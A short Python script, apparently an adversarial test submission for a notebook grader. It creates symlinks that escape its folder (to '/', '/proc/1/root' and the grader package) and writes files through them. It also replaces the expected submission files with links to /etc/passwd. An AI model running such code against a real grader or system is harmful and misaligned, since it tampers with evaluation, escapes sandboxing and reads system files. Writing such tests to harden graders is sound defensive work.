"""Makes links in its own folder that lead out of it, and writes through them.

dangerous: without a sandbox it litters the machine
"""
# %% loss_by_hand
loss_by_hand = 29
import os
import grader

package = os.path.dirname(os.path.abspath(grader.__file__))
for name, target in {"up": "..", "upper": "../../..", "package": package, "root": "/", "self": "/proc/self/root", "one": "/proc/1/root"}.items():
    try:
        os.symlink(target, name)
        with open(os.path.join(name, "grader-attack-wrote-this"), "w") as file:
            file.write("x")
        if name == "package":
            print("LEAK: wrote into", target)
    except OSError:
        pass
for name in ("linear_regression.ipynb", "linear_regression.evidence.json", "timestamp.txt"):
    try:
        os.unlink(name)
    except OSError:
        pass
    try:
        os.symlink("/etc/passwd", name)
    except OSError:
        pass
